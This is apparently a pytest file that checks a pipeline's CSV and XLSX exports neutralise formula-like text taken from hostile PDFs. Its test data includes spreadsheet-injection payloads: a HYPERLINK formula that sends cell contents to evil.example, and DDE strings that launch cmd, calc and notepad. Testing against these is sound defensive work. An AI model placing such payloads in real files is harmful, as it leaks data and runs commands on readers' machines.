"""Exports that cannot attack their reader (issue 23): formula-like texts from a hostile PDF never
become live formulas in a CSV or XLSX, texts hold no control or non-character, and a command that
fails leaves no half-written file."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.outputs.compare import plan_metrics
from pipeline.outputs.compare import to_csv as compare_csv
from pipeline.outputs.compare import to_html as compare_html
from pipeline.outputs.export import to_csv
from pipeline.outputs.files import atomic_path
from pipeline.outputs.workbook import apply_workbook, write_workbook
from pipeline.store.database import Store
from tests.test_store import make_logframe

runner = CliRunner()

# What a hostile PDF can put at the start of a cell (OWASP "CSV injection").
HOSTILE = {
    "goal": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "output": "+cmd|' /C calc'!A0",
    "activity": "-2+3+cmd|' /C calc'!A0",
    "indicator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "baseline": "=1+1",
    "target": "-10%",
    "institution": "=cmd|' /C notepad'!A0",
}


def hostile_logframe():  # noqa: ANN201 - a Logframe
    lf = make_logframe()
    goal = lf.goals[0]
    goal.text = HOSTILE["goal"]
    goal.outputs[0].text = HOSTILE["output"]
    activity = goal.outputs[0].activities[0]
    activity.text = HOSTILE["activity"]
    indicator = activity.indicators[0]
    indicator.text = HOSTILE["indicator"]
    indicator.baseline = HOSTILE["baseline"]
    indicator.target = HOSTILE["target"]
    activity.institutions[0].name = HOSTILE["institution"]
    return lf


def test_csv_export_neutralises_formula_like_texts():
    rows = list(csv.DictReader(io.StringIO(to_csv([hostile_logframe()]))))
    assert rows and rows[0]["goal_text"] == "'" + HOSTILE["goal"]
    assert rows[0]["output_text"] == "'" + HOSTILE["output"]
    assert rows[0]["activity_text"] == "'" + HOSTILE["activity"]
    assert rows[0]["indicators"] == "'" + HOSTILE["indicator"]
    assert rows[0]["lead_institutions"] == "'" + HOSTILE["institution"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_compare_csv_neutralises_formula_like_labels():
    lf = hostile_logframe()
    lf.document.country = "=HYPERLINK(\"http://evil.example\")"
    text = compare_csv([plan_metrics(lf)])
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_compare_html_has_the_reviews_content_security_policy():
    page = compare_html([plan_metrics(make_logframe())])
    assert '<meta http-equiv="Content-Security-Policy" content="default-src &#x27;none&#x27;;' in page
    assert "script-src &#x27;none&#x27;" in page


def test_xlsx_stores_formula_like_texts_as_strings_and_round_trips(tmp_path):
    store = Store(str(tmp_path / "x.db"))
    doc = store.load(hostile_logframe()).document_id
    path = write_workbook(store, [doc], tmp_path / "w.xlsx")
    wb = openpyxl.load_workbook(path)
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value in HOSTILE.values():
                    assert cell.data_type == "s" and cell.quotePrefix
                    seen[cell.value] = True
    assert set(seen) == set(HOSTILE.values())
    # An unchanged workbook changes nothing (before: "cannot be empty", the formulas having no value).
    report = apply_workbook(store, path, author="ana")
    assert report.applied == [] and report.skipped == []


def test_a_failed_write_leaves_the_target_as_it_was(tmp_path):
    target = tmp_path / "out.xlsx"
    target.write_text("a previous export\n")
    with pytest.raises(RuntimeError), atomic_path(target) as temp:
        temp.write_text("half a workbo")
        raise RuntimeError("the writer failed half-way")
    assert target.read_text() == "a previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]  # no temporary file left either


def test_cli_export_to_a_missing_folder_is_one_line_and_creates_nothing(tmp_path):
    db = str(tmp_path / "x.db")
    Store(db).load(make_logframe())
    for fmt, name in (("csv", "out.csv"), ("xlsx", "out.xlsx")):
        target = tmp_path / "missing" / name
        res = runner.invoke(app, ["export", "--format", fmt, "-o", str(target), "--db", db])
        assert res.exit_code == 2, res.output
        assert "does not exist" in res.output and len(res.output.strip().splitlines()) == 1
        assert not (tmp_path / "missing").exists()
